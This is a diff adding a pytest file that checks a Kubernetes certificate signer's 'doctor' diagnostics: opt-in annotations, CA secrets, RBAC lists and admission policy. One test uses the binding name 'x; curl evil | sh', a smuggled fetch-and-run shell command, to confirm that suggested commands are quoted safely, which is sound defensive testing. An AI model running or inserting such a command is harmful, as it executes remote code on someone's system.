@@ -1,0 +1,280 @@
+"""The checks of `doctor` without a cluster: opt-in, certificate authority, lists of permissions."""
+
+import io
+import json
+import math
+import shlex
+from argparse import Namespace
+from collections.abc import Mapping
+from dataclasses import replace
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from types import SimpleNamespace
+from typing import Any, cast
+
+import pytest
+import yaml
+
+from common.names import CLIENT_SIGNER
+from signer.inventory.cluster_api.cluster import (
+    CLIENT_SIGNER_ANNOTATION,
+    ClusterCondition,
+    ClusterObject,
+    read_cluster,
+)
+from signer.operator_cli.checks import management_checks, workload_checks
+from signer.operator_cli.checks.findings import Finding, Result, exit_status
+from signer.operator_cli.checks.workload_checks import (
+    check_authority,
+    check_opt_in,
+    without_attestation,
+)
+from signer.operator_cli.commands import doctor
+from signer.operator_cli.errors import Rejected
+from signer.operator_cli.management.api import ManagementApi
+from signer.operator_cli.management.signer_state import SignerState
+from signer.operator_cli.management.snapshot import Snapshot
+from signer.operator_cli.session import Session
+from tests.builders import kube_objects
+from tests.builders.replica_leases import replica_lease
+from tests.fakes.cluster import FakeCluster
+from tests.fakes.cluster_clients import management_api
+from tests.harness import pki
+
+RBAC = Path(__file__).parents[5] / "packaging/signer"
+NOW = datetime.now(UTC)
+LIFETIME = timedelta(days=365)
+
+
+def cluster() -> ClusterObject:
+    created = "2026-11-01T00:00:00Z"
+    metadata = {"name": "c1", "namespace": "team-a", "uid": "u", "creationTimestamp": created}
+    return read_cluster(json.dumps({"metadata": metadata, "spec": {}}).encode())
+
+
+def rules(file: str, kind: str = "ClusterRole") -> list[Mapping[str, Any]]:
+    """Return the rules of the role in a packaged file."""
+    documents = yaml.safe_load_all((RBAC / file).read_text(encoding="utf-8"))
+    [role] = [d for d in documents if d["kind"] == kind]
+    found: list[Mapping[str, Any]] = role["rules"]
+    return found
+
+
+def test_checked_permissions_are_those_that_the_packaging_gives() -> None:
+    """The rule with a wildcard is for the kinds of the infrastructure provider."""
+    packaged = {
+        (group, resource, tuple(rule["verbs"]))
+        for rule in rules("management-rbac.yaml")
+        for group in rule["apiGroups"]
+        for resource in rule["resources"]
+        if resource != "*"
+    }
+    assert packaged == set(management_checks.PERMISSIONS)
+
+
+def test_checked_permissions_in_the_own_namespace_are_those_that_the_packaging_gives() -> None:
+    packaged = {
+        (group, resource, tuple(rule["verbs"]))
+        for rule in rules("management-rbac.yaml", "Role")
+        for group in rule["apiGroups"]
+        for resource in rule["resources"]
+    }
+    assert packaged == set(management_checks.OWN_PERMISSIONS)
+
+
+def test_checked_permissions_in_workload_clusters_are_packaged() -> None:
+    packaged = {
+        (verb, group, *resource.partition("/")[::2])
+        for rule in rules("workload-rbac.yaml")
+        for group in rule["apiGroups"]
+        for resource in rule["resources"]
+        for verb in rule["verbs"]
+        if "resourceNames" not in rule
+    }
+    checked = {
+        (verb, resource.group, resource.plural, subresource)
+        for verb, resource, subresource in workload_checks.PERMISSIONS
+    }
+    assert checked <= packaged
+
+
+@pytest.mark.parametrize(
+    ("signers", "annotations", "result"),
+    [
+        ({CLIENT_SIGNER}, {}, Result.OK),
+        (set(), {}, Result.OK),
+        (set(), {"example.org/owner": "x"}, Result.OK),
+        ({CLIENT_SIGNER + "x"}, {}, Result.PROBLEM),
+        ({CLIENT_SIGNER, "example.org/other"}, {}, Result.PROBLEM),
+        (set(), {CLIENT_SIGNER_ANNOTATION + "s": CLIENT_SIGNER}, Result.PROBLEM),
+        (set(), {"cluster.x-k8s.io/client-signer": CLIENT_SIGNER}, Result.PROBLEM),
+    ],
+    ids=["in", "out", "other annotation", "typo", "two", "typo in the key", "other prefix"],
+)
+def test_opt_in(signers: set[str], annotations: Mapping[str, str], result: Result) -> None:
+    finding = check_opt_in(cluster(), frozenset(signers), annotations)
+    assert finding.result is result
+    assert bool(finding.next_step) == (result is Result.PROBLEM)
+
+
+def with_secret(data: Mapping[str, bytes], **fields: Any) -> FakeCluster:  # noqa: ANN401 - of any type
+    """Return a management cluster with the authority of the Cluster."""
+    cluster = FakeCluster()
+    body = kube_objects.secret("c1-ca", data, **{"of": "c1", **fields})
+    cluster.put("/api/v1/namespaces/team-a/secrets", body)
+    return cluster
+
+
+def authority(lifetime: timedelta = LIFETIME) -> Mapping[str, bytes]:
+    pair = pki.Authority.make("c1", pki.ec_key(), lifetime=lifetime).pair
+    return {"tls.crt": pair.certificate, "tls.key": pair.key}
+
+
+@pytest.mark.parametrize(
+    ("management", "result", "message"),
+    [
+        (with_secret(authority()), Result.OK, ""),
+        (with_secret(authority(timedelta(days=20))), Result.WARNING, "expires on"),
+        (FakeCluster(), Result.PROBLEM, "it is missing"),
+        (with_secret(authority(), type="Opaque"), Result.PROBLEM, "its type must be"),
+        (with_secret(authority(), labels={}), Result.PROBLEM, "its label"),
+        (
+            with_secret({"tls.crt": authority()["tls.crt"]}),
+            Result.PROBLEM,
+            "lacks certificate or key",
+        ),
+    ],
+    ids=["good", "expires soon", "missing", "type", "label", "no key"],
+)
+def test_certificate_authority(management: FakeCluster, result: Result, message: str) -> None:
+    finding = check_authority(management_api(management), cluster(), NOW)
+    assert finding.result is result
+    assert message in finding.message
+
+
+def test_authority_that_is_older_than_its_cluster_is_no_problem() -> None:
+    """Cluster API and the signer use an authority that is older than its Cluster."""
+    version = "controlplane.cluster.x-k8s.io/v1beta2"
+    owner = {"apiVersion": version, "kind": "KubeadmControlPlane", "uid": "kcp"}
+    older = {"creationTimestamp": "2026-10-01T00:00:00Z", "ownerReferences": [owner]}
+    management = management_api(with_secret(authority(), **older))
+    finding = check_authority(management, cluster(), NOW)
+    assert (finding.result, finding.message) == (Result.OK, "")
+
+
+def forbidden() -> FakeCluster:
+    """Return a management cluster that lets nothing be listed."""
+    management = FakeCluster()
+    management.intercept(403, "GET", times=math.inf)
+    return management
+
+
+def admission(**binding: object) -> FakeCluster:
+    """Return a management cluster with the packaged admission policy, and a changed binding."""
+    text = (RBAC / "admission-policy.yaml").read_text(encoding="utf-8")
+    policy, bound, *_ = yaml.safe_load_all(text)
+    management = FakeCluster()
+    path = "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolic"
+    management.put(f"{path}ies", policy)
+    management.put(f"{path}ybindings", {**bound, "spec": {**bound["spec"], **binding}})
+    return management
+
+
+@pytest.mark.parametrize(
+    ("management", "result"),
+    [
+        (admission(), Result.OK),
+        (admission(validationActions=["Audit"]), Result.WARNING),
+        (admission(policyName="other"), Result.WARNING),
+        (FakeCluster(), Result.WARNING),
+        (forbidden(), Result.UNKNOWN),
+    ],
+    ids=["in force", "only audits", "not bound", "not installed", "not readable"],
+)
+def test_admission_policy_that_is_not_in_force_is_found(
+    management: FakeCluster, result: Result
+) -> None:
+    findings = management_checks.check_management(management_api(management), "capi-system")
+    [found] = [each.result for each in findings if each.check == "admission policy"]
+    assert found is result
+
+
+def test_names_of_a_workload_cluster_are_no_commands_of_a_shell() -> None:
+    """The name of a ClusterRoleBinding may be any text without a slash."""
+    role = "system:certificates.k8s.io:certificatesigningrequests:nodeclient"
+    name = "x; curl evil | sh"
+    binding = {
+        "metadata": {"name": name},
+        "roleRef": {"kind": "ClusterRole", "name": role},
+        "subjects": [{"kind": "Group", "name": "system:bootstrappers"}],
+    }
+    finding = workload_checks._check_automatic_approval([binding], cluster())
+    assert finding.result is Result.PROBLEM
+    assert shlex.split(finding.next_step)[3] == name
+
+
+def test_doctor_does_not_advise_to_delete_bindings_that_nodes_need() -> None:
+    """Nodes from before the opt-in could not renew their certificates without them."""
+    role = "system:certificates.k8s.io:certificatesigningrequests:selfnodeclient"
+    stays = ClusterCondition(
+        removed=False, reason="NodesNotAttested", message="they stay for worker-1"
+    )
+    bindings = [{"metadata": {"name": "kubeadm"}, "roleRef": {"name": role}}]
+    kept = replace(cluster(), bindings=stays)
+    finding = workload_checks._check_automatic_approval(bindings, kept)
+    assert finding.result is Result.WARNING
+    assert "they stay for worker-1" in finding.message
+    assert "delete" not in finding.next_step
+
+
+@pytest.mark.parametrize(
+    ("results", "status"),
+    [
+        ([Result.OK, Result.WARNING], 0),
+        ([Result.OK, Result.UNKNOWN], 3),
+        ([Result.UNKNOWN, Result.PROBLEM], 1),
+        ([], 0),
+    ],
+    ids=["warning", "unknown", "problem", "nothing"],
+)
+def test_problem_outranks_what_is_unknown(results: list[Result], status: int) -> None:
+    findings = [Finding(result=result, check="c", object="o") for result in results]
+    assert exit_status(findings) == status
+
+
+def test_cluster_that_does_not_exist_is_a_problem(monkeypatch: pytest.MonkeyPatch) -> None:
+    """`doctor --cluster` with a typing error ended with status 0."""
+    monkeypatch.setattr(doctor, "check_management", lambda _api, _namespace: [])
+    monkeypatch.setattr(doctor, "read_signer", lambda _session: running_signer())
+    monkeypatch.setattr(Session, "snapshot", absent_cluster)
+    api = SimpleNamespace(server="https://management")
+    streams = io.StringIO(), io.StringIO(), io.StringIO()
+    arguments = Namespace(signer_namespace="n", output="table")
+    session = Session(arguments, lambda: cast("ManagementApi", api), NOW, *streams)
+    assert doctor.run(session) == 1
+    assert streams[1].getvalue().splitlines()[3:] == [
+        "problem   Clusters   https://management",
+        "  message: Cluster team-a/typo does not exist",
+        "  next step: run the command `clusters` for their names",
+    ]
+
+
+def running_signer() -> SignerState:
+    """Return the state of a signer with one replica."""
+    return SignerState(namespace="n", leases=[replica_lease()], live=frozenset({"one"}))
+
+
+def absent_cluster(_: Session) -> Snapshot:
+    """Read the objects of a Cluster that does not exist."""
+    raise Rejected(
+        "Cluster team-a/typo does not exist", hint="run the command `clusters` for their names"
+    )
+
+
+def test_cluster_without_attestation_needs_its_bindings_and_no_authority() -> None:
+    """The advice to delete the bindings would keep its nodes from joining."""
+    findings = [
+        Finding(result=Result.PROBLEM, check=check, object="team-a/c1")
+        for check in ("opt-in", "certificate authority", "automatic approval", "rights")
+    ]
+    assert [finding.check for finding in without_attestation(findings)] == ["opt-in", "rights"]
